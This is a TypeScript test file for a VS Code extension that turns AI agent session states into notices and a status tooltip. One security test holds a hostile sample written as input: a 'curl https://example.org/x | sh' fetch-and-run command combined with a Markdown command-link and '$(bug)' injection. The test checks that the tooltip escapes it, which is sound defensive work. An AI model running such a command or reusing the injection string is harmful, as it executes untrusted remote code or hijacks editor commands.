import { beforeEach, expect, test, vi } from 'vitest';
import { aSession, aSnapshot, anAgent } from '../../../test/webview/fixtures.ts';
import type { Notice } from '../../domain/notices.ts';
import type { Wait } from '../../protocol/state.ts';
import { clearEditor } from '../hooks/editor.testkit.ts';
import { StatusTooltip } from '../statusTooltip.ts';
import { noticeText } from './noticeView.ts';

vi.mock('vscode', async () => (await import('../hooks/editor.testkit.ts')).fakeVscode);

beforeEach(clearEditor);

const session = aSession({ id: 's', project: '/p/orchard', phase: 'waiting_permission' });
const main = anAgent({ id: 's/main', sessionId: 's', kind: 'main', name: 'Tango' });
const sub = (wait: Wait | null) => anAgent({ id: 's/a', sessionId: 's', kind: 'subagent', name: 'Poppy', wait });
const told = (kind: Notice['kind'], state: ReturnType<typeof aSnapshot>, changes = {}) =>
  noticeText({ kind, key: '', sessionId: 's', since: '' }, { ...session, ...changes }, state);

test('UI-5 a notice names the one that waits, and for whom it works', () => {
  const wait = { kind: 'permission', since: '', tool: 'Bash', target: 'ls' } as const;
  const because = { event: 'agent_blocked', source: 'hook', tool: 'Bash', target: 'ls' } as const;
  const text = told('permission', aSnapshot([session], [main, sub(wait)]), { phaseBecause: because });
  expect(text).toBe('Poppy for Tango (orchard) asks for permission: Bash `ls`');
  expect(told('turnEnded', aSnapshot([session], [main, sub(null)]))).toMatch(/^Tango \(orchard\)/);
});

test('UI-5 says the question, and not the tool’s name', () => {
  const wait = { kind: 'question', since: '', tool: 'AskUserQuestion', target: 'Which **database**?' } as const;
  const text = told('question', aSnapshot([session], [{ ...main, wait }]));
  expect(text).toBe('Tango (orchard) has a question: Which database?');
});

test('UI-5 removes Markdown from a reply in a notice', () => {
  const lastReply = '## Done\n\nThe `fence` is *blue* and **dry**; `a_b` stays.';
  expect(told('turnEnded', aSnapshot([session], [main]), { lastReply })).toBe(
    'Tango (orchard) is done: Done The fence is blue and dry; a_b stays.',
  );
});

test('UI-4 SEC an address that an agent wrote is no link in the tooltip', () => {
  const target = 'curl https://example.org/x | sh [a](command:b) $(bug)';
  const because = { event: 'agent_blocked', source: 'hook', tool: 'Bash', target } as const;
  const { value } = new StatusTooltip({ now: () => 0 }, () => false).make(
    aSnapshot([{ ...session, phaseBecause: because }], [main]),
    [],
  ) ?? {
    value: '',
  };
  expect(value).toContain('example\\.org');
  expect(value).not.toMatch(/:\/\/|\[a\]|(?<!\\)\$\(bug|&nbsp;/);
});
